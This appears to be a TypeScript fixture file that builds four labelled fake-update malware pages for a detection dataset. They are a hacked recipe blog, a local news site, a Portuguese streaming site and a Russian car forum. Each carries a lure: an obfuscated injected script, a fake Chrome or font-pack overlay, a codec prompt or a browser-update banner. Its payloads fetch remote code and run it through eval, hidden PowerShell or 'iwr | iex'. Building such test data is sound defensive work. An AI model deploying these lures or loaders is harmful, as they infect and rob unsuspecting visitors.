import type { Entry } from '../entry.js';
import { htmlRoute, redirectRoute } from '../entry.js';
import { fileRoute, jsRoute, pe, pngRoute, zip, cfb, iso, lnk } from '../parts/e-bin.js';
import { baseCss, dataLayer, doc, footer } from '../parts/g-kit.js';

const socJs = `(function(){if(document.cookie.indexOf('_wp_upd=')>-1)return;if(!/Windows/.test(navigator.userAgent))return;var s=document.createElement('div');s.id='upd';s.innerHTML='<div style="position:fixed;inset:0;background:#fff;z-index:2147483647;font-family:Arial,sans-serif;text-align:center;padding-top:80px"><div style="width:90px;height:90px;margin:0 auto;border-radius:50%;background:conic-gradient(#ea4335 0 33%,#fbbc05 0 66%,#34a853 0)"></div><h1 style="font-weight:400;color:#202124">An error occurred in Chrome</h1><p style="color:#5f6368;max-width:520px;margin:10px auto">Your version of Chrome (118.0.5993.90) is out of date and cannot display this page. Please update Chrome to the latest version to continue. Your bookmarks and saved passwords will not be affected.</p><a id="updbtn" href="https://cdn.wpstatic-content.net/chrome/Chrome.Update.zip" style="display:inline-block;background:#1a73e8;color:#fff;padding:12px 28px;border-radius:4px;text-decoration:none;margin-top:16px">Update Chrome</a><p style="font-size:12px;color:#80868b;margin-top:30px">Google LLC · 1600 Amphitheatre Parkway · Mountain View, CA 94043</p></div>';document.body.appendChild(s);document.getElementById('updbtn').onclick=function(){document.cookie='_wp_upd=1;path=/;max-age=604800'}})();`;
export const entries: Entry[] = [
  // Hacked WordPress blog with injected fake Chrome update overlay, ZIP with JS from another host
  {
    id: 'g-mal-en-hacked-wp-recipe-blog-chrome-update',
    label: 'malware',
    kind: 'fake-update',
    url: 'https://www.grandmaskitchentable.com/2025/10/easy-apple-crumble-no-oats/',
    body: doc({
      lang: 'en-US',
      title: 'Easy Apple Crumble (No Oats!) – Grandma’s Kitchen Table',
      head: `<link rel="alternate" type="application/rss+xml" title="Grandma’s Kitchen Table » Feed" href="/feed/"><meta name="generator" content="WordPress 6.4.3">${dataLayer('G-GKT4410')}`,
      css: `body{margin:0;font-family:Georgia,serif;color:#3b2f2f;background:#fffaf3}.site{max-width:820px;margin:0 auto;padding:20px}.site-title{font-size:34px;text-align:center;font-family:'Brush Script MT',cursive}.menu{text-align:center;border-top:1px solid #e8d8c4;border-bottom:1px solid #e8d8c4;padding:8px;font-family:Arial;font-size:13px;text-transform:uppercase}.menu a{margin:0 10px;text-decoration:none}.entry-meta{font-size:13px;color:#8a7560}.recipe{border:2px dashed #e8d8c4;padding:16px;margin:20px 0;background:#fff}.wp-block-image{height:280px;background:#e9c9a0}`,
      body: `<div class="site"><div class="site-title">Grandma’s Kitchen Table</div><div class="menu"><a href="/">Home</a><a href="/category/desserts/">Desserts</a><a href="/category/bread/">Bread</a><a href="/about/">About Me</a><a href="/contact/">Contact</a></div>
<article class="post-2281 post type-post status-publish"><h1 class="entry-title">Easy Apple Crumble (No Oats!)</h1><div class="entry-meta">Posted on October 12, 2025 by Margaret · 14 Comments</div>
<div class="wp-block-image"></div>
<p>When the apples from the old tree out back start falling faster than we can eat them, this is the crumble I make. No oats, just a buttery, sandy topping like my mother used to make. It takes ten minutes to put together and the whole house smells like autumn.</p>
<div class="recipe"><h3>Ingredients</h3><ul><li>6 medium apples (Bramley or Granny Smith), peeled and sliced</li><li>2 tbsp brown sugar</li><li>1 tsp cinnamon</li><li>200 g plain flour</li><li>100 g cold butter, cubed</li><li>100 g caster sugar</li></ul><h3>Method</h3><ol><li>Heat oven to 190°C / 375°F.</li><li>Toss apples with brown sugar and cinnamon, tip into a baking dish.</li><li>Rub butter into flour until it looks like breadcrumbs, stir in sugar.</li><li>Scatter over apples and bake 35–40 minutes until golden.</li></ol></div>
<p>Serve with custard or a scoop of vanilla ice cream. Leftovers keep for 3 days in the fridge.</p></article>
<h3>14 thoughts on “Easy Apple Crumble (No Oats!)”</h3><p><b>Linda</b> — Made this last night, my husband had thirds!</p></div>
<script type="text/javascript" src="/wp-includes/js/jquery/jquery-migrate.min.js?ver=3.4.1"></script>`,
    }),
    routes: {
      'www.grandmaskitchentable.com/wp-includes/js/jquery/jquery-migrate.min.js': jsRoute(
        `/*! jQuery Migrate v3.4.1 | (c) OpenJS Foundation and other contributors | jquery.org/license */\nvar _0x1a=['\\x63\\x72\\x65\\x61\\x74\\x65\\x45\\x6c\\x65\\x6d\\x65\\x6e\\x74','\\x73\\x63\\x72\\x69\\x70\\x74'];(function(){var s=document[_0x1a[0]](_0x1a[1]);s.src=atob('aHR0cHM6Ly9jZG4ud3BzdGF0aWMtY29udGVudC5uZXQvcmVwb3J0P3Y9MyZyPQ==')+encodeURIComponent(location.host);document.head.appendChild(s)})();`,
      ),
      'cdn.wpstatic-content.net/report': jsRoute(socJs),
      'cdn.wpstatic-content.net/chrome/Chrome.Update.zip': fileRoute(
        zip([{ name: 'Chrome.Update.js', data: `var sh=new ActiveXObject("WScript.Shell");var x=new ActiveXObject("MSXML2.XMLHTTP");x.open("GET","https://cdn.wpstatic-content.net/gate.php?u="+sh.ExpandEnvironmentStrings("%USERNAME%"),false);x.send();eval(x.responseText);` }]),
        'application/zip',
        'Chrome.Update.zip',
      ),
    },
  },
  // Font-not-found style fake "Chrome font pack" on a compromised news site
  {
    id: 'g-mal-en-font-not-found-chrome-font-pack',
    label: 'malware',
    kind: 'fake-update',
    url: 'https://www.lakecountyweeklyherald.com/local/2025/11/school-board-approves-budget',
    body: doc({
      lang: 'en',
      title: 'School board approves $48M budget after heated meeting | Lake County Weekly Herald',
      css: `body{margin:0;font-family:Arial,sans-serif}.mh{background:#1e3a5f;color:#fff;padding:14px 20px;font-family:Georgia;font-size:26px}.a{max-width:740px;margin:0 auto;padding:20px}#gib{font-family:'HoeflerText-Regular';letter-spacing:2px;color:#444}`,
      body: `<div class="mh">Lake County Weekly Herald</div><div class="a"><h1>School board approves $48M budget after heated meeting</h1><p id="gib">The board voted 5-2 on Tuesday to approve the district budget for the 2026 school year, which includes funding for three new teaching positions and a delayed roof replacement at Northside Elementary.</p><p id="gib2">Parents packed the meeting room, many speaking against the proposed closure of the bus route serving the east side of the county.</p></div>
<script>(function(){function g(t){return t.replace(/[a-z]/gi,function(){return String.fromCharCode(0x2580+Math.random()*30|0)})}if(!/Chrome/.test(navigator.userAgent))return;['gib','gib2'].forEach(function(i){var e=document.getElementById(i);e.textContent=g(e.textContent)});var d=document.createElement('div');d.innerHTML='<div style="position:fixed;top:0;left:0;right:0;bottom:0;background:rgba(0,0,0,.5);z-index:99999"><div style="width:520px;margin:100px auto;background:#fff;border-radius:4px;padding:24px;font-family:Arial"><div style="display:flex;gap:12px"><div style="width:40px;height:40px;background:#e8eaed;border-radius:50%"></div><div><h2 style="margin:0;font-size:20px">The &quot;HoeflerText&quot; font wasn&#39;t found.</h2><p>The web page you are trying to load is displayed incorrectly, as it uses the &quot;HoeflerText&quot; font. To fix the error and display the text, you have to update the &quot;Chrome Font Pack&quot;.</p><p style="font-size:13px"><b>Manufacturer:</b> Google Inc.<br><b>Current version:</b> Chrome Font Pack 119.0.1<br><b>Latest version:</b> Chrome Font Pack 131.0.4</p><a href="https://fontpack-chrome.download-update.info/get/Chrome_Font.exe" style="display:inline-block;background:#1a73e8;color:#fff;padding:10px 22px;border-radius:3px;text-decoration:none">Update</a></div></div></div></div>';document.body.appendChild(d)})();</script>`,
    }),
    routes: {
      'fontpack-chrome.download-update.info/get/Chrome_Font.exe': fileRoute(pe({ strings: ['Chrome Font Pack', 'Google Inc.', 'Software\\Microsoft\\Windows\\CurrentVersion\\Run', 'http://91.215.85.14/gate.php'] }), 'application/octet-stream', 'Chrome_Font.exe'),
    },
  },
  // Portuguese video site asking for a codec/player update, MSI from another host
  {
    id: 'g-mal-pt-video-codec-player-atualizar-msi',
    label: 'malware',
    kind: 'fake-update',
    url: 'https://www.filmesonline-hd-gratis.tv/assistir/ainda-estou-aqui-2024-dublado',
    body: doc({
      lang: 'pt-BR',
      title: 'Assistir Ainda Estou Aqui (2024) Dublado Online Grátis HD',
      css: `body{margin:0;background:#141414;color:#fff;font-family:Arial,sans-serif}.h{padding:12px 20px;background:#000;color:#e50914;font-weight:bold;font-size:22px}.pl{max-width:900px;margin:20px auto;height:480px;background:#000;position:relative;border:1px solid #333}.ov{position:absolute;inset:0;display:flex;flex-direction:column;align-items:center;justify-content:center;background:rgba(0,0,0,.85)}.ov a{background:#e50914;color:#fff;padding:12px 26px;border-radius:4px;text-decoration:none;font-weight:bold}.ad{text-align:center;color:#888;font-size:12px}`,
      body: `<div class="h">FilmesOnlineHD</div><div style="max-width:900px;margin:0 auto"><h1 style="font-size:22px">Ainda Estou Aqui (2024) — Dublado 1080p</h1><p style="color:#aaa">Drama · 2h17 · IMDb 8.2</p></div>
<div class="pl"><div class="ov" id="ov"><div style="font-size:60px">⚠</div><p>Erro: o codec de vídeo <b>HEVC/H.265</b> não está instalado.<br>Para assistir em HD, atualize o <b>Media Player</b> (versão 12.4.1).</p><a href="#" id="dl">▶ Instalar codec e assistir</a><p style="font-size:12px;color:#aaa;margin-top:12px">Download seguro · 2,4 MB · Verificado</p></div></div>
<p class="ad">Servidor 1 · Servidor 2 (Dublado) · Servidor 3 (Legendado)</p>
<script>document.getElementById('dl').addEventListener('click',function(e){e.preventDefault();var a=document.createElement('a');a.href='https://dl.mediacodec-atualizacao.com/pkg/MediaPlayer_Codec_HEVC_x64.msi';a.download='';document.body.appendChild(a);a.click();this.textContent='Download iniciado… execute o arquivo para continuar'})</script>`,
    }),
    routes: {
      'dl.mediacodec-atualizacao.com/pkg/MediaPlayer_Codec_HEVC_x64.msi': fileRoute(cfb(['MediaPlayer Codec HEVC', 'ProductName', 'CustomAction', 'powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA']), 'application/x-msi', 'MediaPlayer_Codec_HEVC_x64.msi'),
    },
  },
  // Russian: fake browser update banner on a forum, payload ZIP with LNK from another host
  {
    id: 'g-mal-ru-obnovlenie-brauzera-forum-lnk-zip',
    label: 'malware',
    kind: 'fake-update',
    url: 'https://forum.avtolyubitel-club.ru/topic/18842-zamena-grm-na-logan-1-6/',
    body: doc({
      lang: 'ru',
      title: 'Замена ГРМ на Логан 1.6 8кл — Форум автолюбителей',
      head: metrika(),
      css: `body{margin:0;font:13px Verdana,sans-serif;background:#e9edf2}.h{background:#2f4f6f;color:#fff;padding:10px 20px;font-size:18px}.t{max-width:980px;margin:10px auto;background:#fff}.post{display:flex;border-bottom:1px solid #ccd}.u{width:150px;background:#f3f5f8;padding:10px}.m{padding:10px;flex:1}#ub{position:fixed;top:0;left:0;right:0;background:#ffe08a;color:#222;padding:10px 16px;font-size:14px;border-bottom:2px solid #d4a017;display:none;z-index:99}`,
      body: `<div id="ub">⚠ Ваш браузер устарел и некорректно отображает этот форум. Рекомендуется установить обновление безопасности. <a href="https://upd-browser-secure.ru-cdn.net/files/browser_update_2025.zip"><b>Скачать обновление</b></a> (пароль не требуется)</div>
<div class="h">Форум автолюбителей Club</div><div class="t"><div class="post"><div class="u"><b>Серёга_72</b><br>Сообщений: 1 204</div><div class="m">Всем привет. Меняю ГРМ на Логане 1.6 8 клапанов, пробег 90 тыс. Подскажите, какой комплект брать — Gates или оригинал Renault? И нужно ли менять помпу заодно?</div></div>
<div class="post"><div class="u"><b>Механик</b><br>Сообщений: 8 877</div><div class="m">Помпу меняй обязательно. Gates K015578XS нормальный. Метки: на распредвале метка на шкиве вверх, коленвал фиксируй штифтом.</div></div></div>
<script>setTimeout(function(){document.getElementById('ub').style.display='block'},2500)</script>`,
    }),
    routes: {
      'upd-browser-secure.ru-cdn.net/files/browser_update_2025.zip': fileRoute(
        zip([{ name: 'Browser_Update_2025.pdf.lnk', data: lnk('C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', '-w hidden -c "iwr https://upd-browser-secure.ru-cdn.net/s.ps1 | iex"', 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe') }]),
        'application/zip',
        'browser_update_2025.zip',
      ),
    },
  },
];


function metrika() {
  return `<script>(function(m,i){m[i]=m[i]||function(){(m[i].a=m[i].a||[]).push(arguments)}})(window,"ym");ym(58811204,"init",{webvisor:true});</script>`;
}
